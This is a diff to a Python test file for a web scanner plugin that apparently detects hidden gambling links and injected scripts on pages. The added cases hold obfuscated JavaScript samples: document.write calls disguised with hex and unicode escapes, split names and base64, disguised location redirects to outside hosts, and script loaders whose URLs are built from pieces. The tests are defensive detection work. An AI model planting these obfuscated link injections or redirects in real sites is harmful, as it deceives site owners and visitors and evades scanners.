@@ -7,9 +7,11 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from xuncha.model.outcome import Status
+from xuncha.page.values import Script
 from xuncha.testing import judge
 from xuncha_plugins.darklinks.assembling import puzzle
-from xuncha_plugins.darklinks.decoding import strings, unfolded
+from xuncha_plugins.darklinks.chosen import chosen
+from xuncha_plugins.darklinks.decoding import spelled, strings, unfolded
 from xuncha_plugins.darklinks.link_checks import scripted
 
 LINK = '<a href="http://www.bet1.example.com/">时时彩</a>'
@@ -40,6 +42,15 @@ PACKED = (
         f"document.write('{LINK[::-1]}'.split('').reverse().join(''))",
         'document.write(\'<iframe src="https://www.xpj9988.com/" style="position:fixed"></iframe>\')',
         "var s=document.createElement('script');s.src='//js.'+'bet365'+'-tj.com/t.js';document.head.appendChild(s)",
+        f"document.write(`{LINK}`)",
+        f"document.body.innerHTML+=`<p>${{name}}</p>{LINK}`",
+        f"document.body.insertAdjacentHTML('beforeend',`{LINK}`)",
+        f"document['write']('{LINK}')",
+        f"window['document']['wri'+'te']('{LINK}')",
+        f"var d=document,w='write';d[w]('{LINK}')",
+        f"window['\\x64ocument']['\\x77rite']('{LINK}')",
+        f"document.\\u0077rite('{LINK}')",
+        "var a=document.createElement('a');a.href='http://www.abc.top/';a.innerHTML='时时彩';document.body.append(a)",
         f"document.write(atob('{base64.b64encode(b'<script src=http://js.qp-7777.vip/a.js>').decode()}'))",
     ],
 )
@@ -131,20 +142,73 @@ def test_what_honest_scripts_do_is_no_hint(page, plants, script):
     assert judge(scripted, plants(page(f"<script>{script}</script>"))).status is Status.PASS
 
 
+@pytest.mark.parametrize(
+    "before",
+    [
+        f"<script>/*{'x' * 70_000}*/",
+        f"<script>{'var a1=1;' * 20_000}",
+        "<script>" + 'a("x");' * 8_000,
+        "<script>var a=1;</script>" * 200 + "<script>",
+    ],
+)
+def test_scripts_are_read_to_their_end(page, plants, before):
+    assert [one.key for one in judge(scripted, plants(page(f"{before}{WRITE}</script>"))).findings] == ["writes"]
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        f"<script>{'var a1=1;' * 30_000}{WRITE}</script>",
+        "<script>var a=1;</script>" * 1_001,
+        "<script>" + '"",' * 80_000 + "document.write('//')</script>",
+        f"{'<div>' * 600}<script>{WRITE}</script>",
+    ],
+)
+def test_what_is_more_than_is_read_leaves_it_open(page, plants, markup):
+    outcome = judge(scripted, plants(page(markup)))
+    assert (outcome.status, outcome.reason.code) == (Status.INCONCLUSIVE, "too-large")
+
+
+def test_a_large_script_that_does_nothing_is_no_reason_for_doubt(page, plants):
+    assert judge(scripted, plants(page(f"<script>var data=[{'12345,' * 60_000}]</script>"))).status is Status.PASS
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "window['\\x6c\\x6f\\x63ation']='http://www.hgty8866.top/'",
+        "window['loc'+'ation']['hr'+'ef']='//x.evil77.top/'",
+    ],
+)
+def test_a_jump_whose_statement_is_disguised_is_a_hint(page, plants, script):
+    assert [one.key for one in judge(scripted, plants(page(f"<script>{script}</script>"))).findings] == ["sends"]
+
+
+def test_the_shortest_scripts_are_read_first():
+    scripts = (Script("", "", "'//'.open" + " " * 200_000, 1), Script("", "", "'//'.open" + " " * 100_000, 2))
+    assert [one.line for one in chosen(scripts).scripts] == [2]
+
+
+def test_names_are_spelled_as_they_are_usually_written():
+    assert spelled("var w='wri'+'te';document[w](x[0]);self['lo'+'cation']").endswith(
+        "document.write(x[0]);self.location"
+    )
+
+
 def test_a_site_that_was_hardly_seen_is_not_cleared(page, plants, half_seen):
     assert judge(scripted, plants(page()), crawl=half_seen).status is Status.INCONCLUSIVE
 
 
 @given(st.text(max_size=300))
 def test_any_script_is_read_to_an_end(script):
-    assert sum(len(text) for text, _ in unfolded(script)) <= 4 * len(script) + 10
+    assert sum(len(text) for text, _ in unfolded(script).pieces) <= 4 * len(script) + 10
 
 
 @pytest.mark.parametrize(
     "script", ["'" * 60_000, '"+' * 30_000, "fromCharCode(" * 5_000, "'\\x41" * 12_000, "atob('" + "QUFB" * 10_000]
 )
 def test_a_hostile_script_is_read_to_an_end(script):
-    assert list(unfolded(script)) is not None
+    assert unfolded(script) is not None
 
 
 def test_strings_are_joined_and_unescaped():
@@ -171,6 +235,9 @@ LETTERS = "".join(f"\\x{ord(one):02x}" for one in "//tj.abcq.com/x.js")
         f"var _0x1a=['\\x73\\x63\\x72\\x69\\x70\\x74','{LETTERS}'];" + source("_0x1a[1]"),
         f"var _0x=['createElement','script','src','{LETTERS}'];var e=document[_0x[0]](_0x[1]);e[_0x[2]]=_0x[3];",
         source("_0x3f2a('0x1')"),
+        source("'//'+['js','abcq','com'].join('.')+'/t.js'"),
+        source("['https:','','tj.abcq.com','x.js'].join('/')"),
+        "const h='bcq.com';" + source("`//tj.a${h}/x.js`"),
     ],
 )
 def test_what_loads_an_address_made_of_pieces_is_asked_about(page, plants, script):
@@ -197,6 +264,11 @@ def test_where_the_name_is_odd_as_well_it_is_a_hint(page, plants, script):
         source("'//'+'www.'+'sl-tongji.com'+'/t.js'"),
         source("('https:'==location.protocol?'https://':'http://')+'kf.sl-kefu.com/t.js'"),
         source("'https://hm.ba'+'idu.com/hm.js?1'"),
+        "const h='kf.sl-kefu.com';" + source("`https://${h}/x.js`"),
+        source("`https://${h}/x.js`"),
+        "window['location']['href']='https://www.sl-fuwu.com/'",
+        "var words=['百家乐','六合彩'];var a=document.createElement('a');a.href='/list.html';a.innerHTML='更多'",
+        "var a=document.createElement('a');a.href='https://www.sl-fuwu.com/';a.innerHTML='技术支持'",
         source("base+['a','b'].join('/')+'.js'"),
         r"document.write('\x3Cscript src=\x22//cdn.sl-tongji.com/t.js\x22>\x3C/script>')",
         "document.write('<scr'+'ipt src=\"http://kf.sl-kefu.com/t.js\"></scr'+'ipt>')",
